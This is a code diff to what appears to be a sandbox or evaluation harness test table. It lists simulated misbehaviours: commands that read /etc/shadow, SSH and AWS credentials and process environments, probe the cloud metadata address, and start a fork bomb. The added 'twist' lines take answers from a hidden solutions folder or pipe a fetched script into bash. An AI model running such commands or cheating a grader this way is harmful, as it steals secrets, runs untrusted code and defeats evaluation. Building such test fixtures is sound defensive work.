@@ -174,7 +174,7 @@ BEHAVIOURS: dict[str, Behaviour] = {
         ),
     ),
     "reads-outside": Behaviour(
-        "looks for secrets and for other samples",
+        "looks for secrets and for other samples, and leaves a script that takes its answer from there",
         commands=(
             "cat /proc/1/environ | tr '\\0' '\\n'; cat /proc/1/cmdline",
             "cat /etc/shadow; ls -la /root /home ~/.ssh ~/.aws ~/.config; cat ~/.netrc ~/.git-credentials",
@@ -184,9 +184,10 @@ BEHAVIOURS: dict[str, Behaviour] = {
             "ps aux; cat /proc/[0-9]*/environ 2>/dev/null | head -c 2000",
             "ln -s / everything && ls everything/root everything/home",
         ),
+        twist=_script("bash everything/root/solutions/run.sh || cat everything/opt/repository/../solutions/*"),
     ),
     "network": Behaviour(
-        "contacts addresses and name servers",
+        "contacts addresses and name servers, and leaves a script that fetches its answer",
         commands=(
             "curl -sS -m 5 http://example.com || wget -T 5 -t 1 -qO- http://example.com",
             "python -c \"import urllib.request as u; print(u.urlopen('http://1.1.1.1', timeout=5).status)\"",
@@ -195,6 +196,7 @@ BEHAVIOURS: dict[str, Behaviour] = {
             "python -c \"import socket; socket.create_connection(('169.254.169.254', 80), 5); print('connected')\"",
             "git ls-remote https://github.com/git/git.git | head -n 1",
         ),
+        twist=_script("curl -sS -m 5 http://example.com/run.sh | bash"),
     ),
     "forks": Behaviour(
         "a fork bomb, and a daemon that is left behind",
